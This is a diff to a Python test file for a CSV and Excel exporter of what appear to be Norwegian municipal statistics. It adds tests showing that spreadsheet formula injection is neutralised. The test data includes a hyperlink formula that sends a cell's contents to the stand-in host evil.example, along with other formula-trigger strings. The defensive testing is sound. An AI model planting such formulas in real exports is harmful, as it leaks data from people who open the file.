@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 from datetime import datetime
 from zoneinfo import ZoneInfo
@@ -214,14 +215,15 @@ def test_an_empty_file_is_rejected() -> None:
         read_csv(b"", FIGURES)
 
 
-def test_a_line_with_too_many_fields_rejects_the_file_naming_it() -> None:
-    with pytest.raises(FileRejected) as caught:
-        read_csv(
-            csv_file("2024-03,0301,SH_MOTTAKERE,5,", "2024-03,0301,SH_BARN,5,ny, se notat"), FIGURES
-        )
-    [error] = caught.value.errors
-    assert error.line == 3
-    assert "6 felt, men overskriften har 5" in error.reason
+def test_a_line_with_too_many_fields_is_refused_naming_it() -> None:
+    parsed = read_csv(
+        csv_file("2024-03,0301,SH_MOTTAKERE,5,", "2024-03,0301,SH_BARN,5,ny, se notat"), FIGURES
+    )
+    assert [line.line_no for line in parsed.lines] == [2]
+    assert reasons(parsed) == {
+        3: "linjen har 6 felt, men overskriften har 5. Står det «,» i en kommentar, "
+        'må kommentaren stå i anførselstegn (").'
+    }
 
 
 def test_other_file_types_are_rejected() -> None:
@@ -369,3 +371,29 @@ def test_excel_export_has_numbers_as_numbers_and_reads_back() -> None:
         ("0301", Cell.of(50)),
         ("0301", DOTTED),
     ]
+
+
+HOSTILE = ('=HYPERLINK("https://evil.example/?d="&A1,"Klikk")', "+1", "-2+3", "@SUM(A1)")
+
+
+def test_a_comment_that_is_a_formula_leaves_neutralised_and_reads_back_as_typed() -> None:
+    rows = [row_for("SH_MOTTAKERE", Cell.of(50), HOSTILE[0])] + [
+        row_for(code, Cell.of(40), comment)
+        for code, comment in zip(("SH_BARN", "SH_HOVEDKILDE", "SH_UNDER30"), HOSTILE[1:], strict=True)
+    ] + [row_for("SH_KRONER", Cell.of(0), "'=sitat")]
+    stream = io.StringIO()
+    write_csv(rows, stream)
+    written = list(csv.reader(io.StringIO(stream.getvalue())))
+    assert [line[4] for line in written[1:]] == [
+        "'" + HOSTILE[0], "'+1", "'-2+3", "'@SUM(A1)", "''=sitat"
+    ]
+    assert [line[3] for line in written[1:]] == ["50", "40", "40", "40", "0"]  # numbers stay numbers
+    parsed = read_csv(stream.getvalue().encode("utf-8"), FIGURES)
+    assert [line.comment for line in parsed.lines] == [*HOSTILE, "'=sitat"]
+
+
+def test_a_comment_that_is_a_formula_is_a_text_cell_in_excel() -> None:
+    buffer = io.BytesIO()
+    write_xlsx([row_for("SH_MOTTAKERE", Cell.of(50), text) for text in HOSTILE], buffer)
+    sheet = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
+    assert [(cell.value, cell.data_type) for cell in sheet["E"][1:]] == [(text, "s") for text in HOSTILE]
